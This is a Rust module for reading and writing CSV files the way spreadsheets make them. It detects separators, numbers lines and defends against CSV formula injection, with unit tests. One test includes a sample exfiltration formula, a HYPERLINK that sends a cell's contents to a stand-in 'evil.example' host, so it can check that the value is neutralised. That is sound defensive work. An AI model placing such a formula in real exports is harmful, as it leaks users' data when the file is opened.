//! Reading and writing CSV as people's spreadsheets make it: UTF-8 with or without a
//! byte-order mark, `,` `;` or tab separators, quoted fields, CRLF line ends. Every
//! problem names its line (as a spreadsheet numbers it, header = line 1) and column.

use std::fmt;

/// A problem in an uploaded file: where, and what is wrong.
#[derive(Debug, Clone, PartialEq, Eq, serde::Serialize)]
pub struct CsvProblem {
    pub line: usize,
    pub column: Option<String>,
    pub message: String,
}

impl fmt::Display for CsvProblem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.column {
            Some(c) => write!(f, "line {}, column {c}: {}", self.line, self.message),
            None => write!(f, "line {}: {}", self.line, self.message),
        }
    }
}

/// An uploaded CSV file, opened: its header, and its rows read one at a time by
/// [`CsvFile::rows`], so a file of any size costs one record of memory beyond its bytes.
#[derive(Debug)]
pub struct CsvFile<'a> {
    /// The text after the byte-order mark.
    text: &'a str,
    /// Header names, trimmed and lower-cased.
    pub headers: Vec<String>,
    pub delimiter: u8,
}

impl<'a> CsvFile<'a> {
    pub fn column(&self, name: &str) -> Option<usize> {
        self.headers.iter().position(|h| h == name)
    }

    /// (line number, fields trimmed) of each record after the header, in file order;
    /// blank lines skipped. A record that cannot be read ends the rows with its problem.
    pub fn rows(&self) -> Rows<'a> {
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(self.delimiter)
            .flexible(true)
            .has_headers(true)
            .from_reader(self.text.as_bytes());
        // Read past the header (already checked by `open`).
        let _ = reader.headers();
        Rows {
            reader,
            lines: LineCounter::new(self.text),
            done: false,
        }
    }
}

pub struct Rows<'a> {
    reader: csv::Reader<&'a [u8]>,
    lines: LineCounter<'a>,
    done: bool,
}

impl Iterator for Rows<'_> {
    type Item = Result<(usize, csv::StringRecord), CsvProblem>;

    fn next(&mut self) -> Option<Self::Item> {
        while !self.done {
            let mut record = csv::StringRecord::new();
            match self.reader.read_record(&mut record) {
                Ok(false) => self.done = true,
                Ok(true) => {
                    // Count lines from the record's byte offset: the reader's own line
                    // count skips blank lines.
                    let line = record
                        .position()
                        .map(|p| self.lines.line_of(p.byte() as usize))
                        .unwrap_or(0);
                    if record.iter().all(|f| f.trim().is_empty()) {
                        continue;
                    }
                    record.trim();
                    return Some(Ok((line, record)));
                }
                Err(e) => {
                    self.done = true;
                    let line = e
                        .position()
                        .map(|p| self.lines.line_of(p.byte() as usize))
                        .unwrap_or(0);
                    return Some(Err(CsvProblem {
                        line,
                        column: None,
                        message: format!("this line cannot be read: {e}"),
                    }));
                }
            }
        }
        None
    }
}

const BOM: &str = "\u{feff}";

/// The separator the header line uses most, outside quotes: `;` from spreadsheets set
/// to a decimal comma, tab from copy-paste, else `,`.
fn sniff(first_line: &str) -> u8 {
    let mut counts = [(b',', 0), (b';', 0), (b'\t', 0)];
    let mut quoted = false;
    for ch in first_line.bytes() {
        if ch == b'"' {
            quoted = !quoted;
        } else if !quoted {
            for c in counts.iter_mut() {
                if c.0 == ch {
                    c.1 += 1;
                }
            }
        }
    }
    counts
        .iter()
        .max_by_key(|c| c.1)
        .filter(|c| c.1 > 0)
        .map(|c| c.0)
        .unwrap_or(b',')
}

/// Line numbers of records from their byte offsets, counted incrementally (records
/// come in order): the reader's own line count skips blank lines. A line ends with LF,
/// CRLF or a lone CR, as the csv reader takes them.
struct LineCounter<'a> {
    bytes: &'a [u8],
    at: usize,
    line: usize,
}

impl<'a> LineCounter<'a> {
    fn new(text: &'a str) -> Self {
        LineCounter {
            bytes: text.as_bytes(),
            at: 0,
            line: 1,
        }
    }

    /// The 1-based line of the record starting at `byte` (which may point at blank
    /// lines skipped before it).
    fn line_of(&mut self, byte: usize) -> usize {
        let b = self.bytes;
        let mut to = byte.min(b.len());
        while to < b.len() && (b[to] == b'\n' || b[to] == b'\r') {
            to += 1;
        }
        if to >= self.at {
            let breaks = (self.at..to)
                .filter(|&i| b[i] == b'\n' || (b[i] == b'\r' && b.get(i + 1) != Some(&b'\n')))
                .count();
            self.line += breaks;
            self.at = to;
        }
        self.line
    }
}

/// Opens an upload: UTF-8 (BOM or not), not empty, its header read and its separator
/// found. The rows are read afterwards, one at a time.
pub fn open(bytes: &[u8]) -> Result<CsvFile<'_>, CsvProblem> {
    let text = std::str::from_utf8(bytes).map_err(|e| {
        let line = bytes[..e.valid_up_to()]
            .iter()
            .filter(|b| **b == b'\n')
            .count()
            + 1;
        CsvProblem {
            line,
            column: None,
            message: "the file is not UTF-8 text; in Excel use “Save as → CSV UTF-8”".into(),
        }
    })?;
    let text = text.strip_prefix(BOM).unwrap_or(text);
    if text.trim().is_empty() {
        return Err(CsvProblem {
            line: 1,
            column: None,
            message: "the file is empty".into(),
        });
    }
    let first = text.split(['\r', '\n']).next().unwrap_or("");
    let delimiter = sniff(first);
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .flexible(true)
        .has_headers(true)
        .from_reader(text.as_bytes());
    let headers: Vec<String> = reader
        .headers()
        .map_err(|e| CsvProblem {
            line: 1,
            column: None,
            message: format!("the header line cannot be read: {e}"),
        })?
        .iter()
        .map(|h| h.trim().to_lowercase())
        .collect();
    Ok(CsvFile {
        text,
        headers,
        delimiter,
    })
}

/// A CSV for download: BOM so Excel reads it as UTF-8, CRLF line ends, quoted as needed,
/// and every cell [`inert`].
pub fn write(headers: &[&str], rows: impl IntoIterator<Item = Vec<String>>) -> String {
    let mut w = csv::WriterBuilder::new()
        .terminator(csv::Terminator::CRLF)
        .from_writer(Vec::new());
    let _ = w.write_record(headers.iter().map(|h| inert(h).into_owned()));
    for r in rows {
        let _ = w.write_record(r.iter().map(|c| inert(c).into_owned()));
    }
    let bytes = w.into_inner().unwrap_or_default();
    format!("{BOM}{}", String::from_utf8(bytes).unwrap_or_default())
}

/// Characters that make a spreadsheet read a cell as a formula when it starts with one
/// (OWASP, "CSV Injection"): `=HYPERLINK(…)` in a comment would run when the export is
/// opened in Excel.
const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A cell a spreadsheet will show as text, never run: one starting with a formula
/// character gets a leading `'`, which Excel and LibreOffice take as "this is text". A
/// plain number (`-12.5`, `+3`) is left alone, so negative values stay numbers.
/// [`read_text`] undoes it when such a file comes back.
pub fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some(c) if FORMULA_START.contains(&c) && !is_plain_number(cell) => {
            std::borrow::Cow::Owned(format!("'{cell}"))
        }
        _ => std::borrow::Cow::Borrowed(cell),
    }
}

/// A text cell as read from a file Mipaka may have written: the `'` that [`inert`] put
/// before a formula character is taken off again, so an export re-imports unchanged.
pub fn read_text(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(FORMULA_START) && !is_plain_number(rest) => rest,
        _ => cell,
    }
}

fn is_plain_number(s: &str) -> bool {
    let digits = s.strip_prefix(['-', '+']).unwrap_or(s);
    !digits.is_empty()
        && digits.chars().all(|c| c.is_ascii_digit() || c == '.')
        && digits.chars().filter(|c| *c == '.').count() <= 1
        && digits.chars().any(|c| c.is_ascii_digit())
}

/// A number as typed in a file with this separator: in `;` files a comma is the
/// decimal mark ("12,5"), with `.` or spaces grouping thousands ("1.234,5").
pub fn normalise_number(raw: &str, delimiter: u8) -> String {
    if delimiter == b';' && raw.contains(',') {
        raw.replace([' ', '.'], "").replace(',', ".")
    } else {
        raw.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    type Read = (Vec<String>, Vec<(usize, Vec<String>)>, u8);

    /// Every row at once: headers, (line, fields), separator.
    fn read(bytes: &[u8]) -> Result<Read, CsvProblem> {
        let file = open(bytes)?;
        let rows = file
            .rows()
            .map(|r| r.map(|(line, rec)| (line, rec.iter().map(str::to_string).collect())))
            .collect::<Result<Vec<_>, _>>()?;
        Ok((file.headers.clone(), rows, file.delimiter))
    }

    #[test]
    fn excel_habits_work() {
        let file = "\u{feff}indicator_code;county_code;value;comment\r\nLBP-1.1;023;\"1.234,5\";\"said \"\"yes\"\"; twice\"\r\n\r\nLBP-1.2;009;12;\r\n";
        let (headers, rows, delimiter) = read(file.as_bytes()).unwrap();
        assert_eq!(delimiter, b';');
        assert_eq!(
            headers,
            vec!["indicator_code", "county_code", "value", "comment"]
        );
        assert_eq!(rows.len(), 2);
        assert_eq!(rows[0].0, 2);
        assert_eq!(rows[1].0, 4, "line numbers count the blank line");
        assert_eq!(rows[0].1[3], "said \"yes\"; twice");
        assert_eq!(normalise_number(&rows[0].1[2], delimiter), "1234.5");
        assert_eq!(normalise_number("1,234", b','), "1,234");
    }

    #[test]
    fn commas_and_tabs_are_detected() {
        assert_eq!(read(b"a,b\n1,2\n").unwrap().2, b',');
        assert_eq!(read(b"a\tb\n1\t2\n").unwrap().2, b'\t');
        assert_eq!(
            read(b"\"a;x\",b\n1,2\n").unwrap().2,
            b',',
            "separators inside quotes do not count"
        );
    }

    #[test]
    fn lines_are_counted_with_any_line_ending() {
        for file in [
            "a,b\n1,2\n\n3,4\n",
            "a,b\r\n1,2\r\n\r\n3,4\r\n",
            "a,b\r1,2\r\r3,4\r",
        ] {
            let (_, rows, _) = read(file.as_bytes()).unwrap();
            let lines: Vec<usize> = rows.iter().map(|r| r.0).collect();
            assert_eq!(lines, vec![2, 4], "{file:?}");
        }
    }

    #[test]
    fn unreadable_files_say_where() {
        let e = read(b"a,b\n1,2\n\xff\xfe,3\n").unwrap_err();
        assert_eq!(e.line, 3);
        assert!(e.message.contains("UTF-8"));
        assert!(read(b"  \n").unwrap_err().message.contains("empty"));
    }

    #[test]
    fn formulas_are_written_as_text_and_numbers_as_numbers() {
        for (cell, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
                "'=HYPERLINK",
            ),
            ("+1+1", "'+1+1"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1:A2)", "'@SUM"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-", "'-"),
            ("- a dash list", "'- a dash"),
        ] {
            assert!(
                inert(cell).starts_with(written),
                "{cell:?} → {}",
                inert(cell)
            );
            assert_eq!(read_text(&inert(cell)), cell, "{cell:?} comes back");
        }
        for plain in [
            "-12.5", "+3", "-0.25", "12", "Turkana", "a=b", "", "'quoted",
        ] {
            assert_eq!(inert(plain), plain, "{plain:?} is left alone");
            assert_eq!(read_text(plain), plain);
        }
        let s = write(
            &["value", "comment"],
            vec![vec!["-4".into(), "=1+1".into()]],
        );
        assert!(s.contains("-4,'=1+1\r\n"), "{s}");
    }

    #[test]
    fn written_files_open_in_excel() {
        let s = write(&["a", "b"], vec![vec!["x,y".into(), "Murang'a".into()]]);
        assert!(s.starts_with('\u{feff}'));
        assert!(s.contains("\"x,y\""));
        assert!(s.ends_with("\r\n"));
        let back = read(s.as_bytes()).unwrap();
        assert_eq!(back.1[0].1, vec!["x,y", "Murang'a"]);
    }
}
